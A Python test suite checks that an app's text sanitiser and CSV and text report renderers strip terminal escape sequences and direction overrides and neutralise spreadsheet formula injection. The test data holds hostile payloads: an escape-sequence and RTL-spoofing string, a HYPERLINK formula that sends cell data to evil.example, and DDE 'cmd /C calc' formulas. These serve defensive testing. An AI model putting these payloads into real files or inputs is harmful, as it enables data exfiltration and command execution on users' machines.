"""Safe text: control characters and direction overrides never reach the store, a terminal or a
spreadsheet formula; numbers in the CSV stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from sqlmodel import select

from handlers.inputs import Command, Tap, handle
from handlers.ports import Actor, Where
from handlers.report_render import report_csv, report_text
from handlers.reports import CompanyReport, Mood, Period, TeamReport
from handlers.safe_text import clean_text, unlink
from storage.models import EmptyChair, Impact

ROOM = Where(conversation="C0ROOM", kind="channel")
ESC = "\x1b"
# Clear the screen, go home and print in red; then a right-to-left override that makes
# "txt.exe" display as "exe.txt"; then NUL, a C1 CSI and DEL.
ATTACK = f"{ESC}[2J{ESC}[H{ESC}[31mhola\u202etxt.exe\u2066x\u2069\x00\x9b1m\x7f"


def who(user: str) -> Actor:
    return Actor(platform="console", user_id=user)


def test_clean_text_strips_controls_and_overrides_but_keeps_words_newlines_and_tabs():
    assert clean_text(ATTACK) == "[2J[H[31mholatxt.exex1m"
    assert clean_text("línea uno\r\nlínea\tdos\rtres") == "línea uno\nlínea\tdos\ntres"
    # Marks that Arabic and Hebrew need are not overrides: they stay.
    assert clean_text("שלום\u200f!") == "שלום\u200f!"


def test_unlink_breaks_link_shapes_invisibly_and_leaves_figures_and_sentences_alone():
    for url in ("https://evil.example/x", "www.x.com", "example.com", "bob@corp.example", "10.0.0.1"):
        broken = unlink(url)
        assert broken != url and broken.replace("\u2060", "") == url
    assert unlink("Mood 3.5, up 0.5. Fine.") == "Mood 3.5, up 0.5. Fine."


async def test_chair_topic_who_and_note_are_stored_without_control_characters(ctx):
    opened = await handle(ctx, who("ana"), ROOM, Command.parse("empty-chair", f"Precios {ATTACK}"))
    chair_id = opened.posts[0].chair_id
    await handle(ctx, who("bea"), ROOM, Tap.parse(
        "chair.impact.submit", str(chair_id),
        {"effect": "worse", "who": f"pymes{ESC}[8m", "note": f"primera\r\nsegunda\t{ESC}]0;x\x07"},
    ))
    async with ctx.store.session() as session:
        chair = (await session.exec(select(EmptyChair))).one()
        impact = (await session.exec(select(Impact))).one()
    assert chair.topic == "Precios [2J[H[31mholatxt.exex1m"
    assert (impact.who, impact.note) == ("pymes[8m", "primera\nsegunda\t]0;x")
    stored = chair.topic + impact.who + impact.note
    assert not any(ch in stored for ch in (ESC, "\x00", "\x07", "\x7f", "\x9b", "\u202e", "\u2066", "\r"))


async def test_a_topic_made_only_of_control_characters_opens_a_chair_without_topic(ctx):
    opened = await handle(ctx, who("ana"), ROOM, Command.parse("empty-chair", "\x1b\x00\u202e"))
    async with ctx.store.session() as session:
        chair = (await session.exec(select(EmptyChair))).one()
    assert opened.posts and chair.topic == ""


def _report(comments: tuple[str, ...], team: str = "soporte") -> CompanyReport:
    week = datetime(2026, 11, 16, tzinfo=UTC)
    period = Period(period="2026-W47", start=week, open=False, driver="clarity", delivered=6, answered=5,
                    failed=0, respondents=5, mood=Mood(mean=3.2, distribution=(1, 1, 1, 1, 1), respondents=5),
                    mood_delta=-0.5, participation_delta=-0.1)
    return CompanyReport(generated_at=week, weeks=4, min_group_size=5,
                         teams=(TeamReport(team=team, weeks=4, min_group_size=5, periods=(period,),
                                           comments=comments),))


FORMULAS = ('=HYPERLINK("https://evil.example/?d="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1")


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_comment_cells_that_start_like_a_formula_are_text_with_a_leading_quote():
    rows = _cells(report_csv(_report((*FORMULAS, "all fine - really", "=") )))
    comments = [r["value"] for r in rows if r["metric"] == "comment"]
    assert comments == ["'" + f for f in FORMULAS] + ["all fine - really", "'="]
    # Nothing a spreadsheet would evaluate: no cell starts with a formula character.
    assert not [c for r in rows for c in r.values() if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_csv_team_names_are_cells_like_any_other_text():
    rows = _cells(report_csv(_report((), team="=cmd|'/C calc'!A0")))
    assert {r["team"] for r in rows} == {"'=cmd|'/C calc'!A0"}


def test_csv_negative_figures_stay_numbers_a_spreadsheet_can_add():
    rows = {r["metric"]: r["value"] for r in _cells(report_csv(_report(("ok",))))}
    assert rows["mood_delta"] == "-0.5" and float(rows["mood_delta"]) == -0.5
    assert rows["participation_delta"] == "-0.1"


def test_text_report_prints_no_escape_sequence_from_a_comment_stored_before_cleaning():
    text = report_text(_report((ATTACK, "bien\ttodo")), "es")
    assert ESC not in text and "\x9b" not in text and "\u202e" not in text and "\x00" not in text
    assert "holatxt.exe" in text and "bien\ttodo" in text
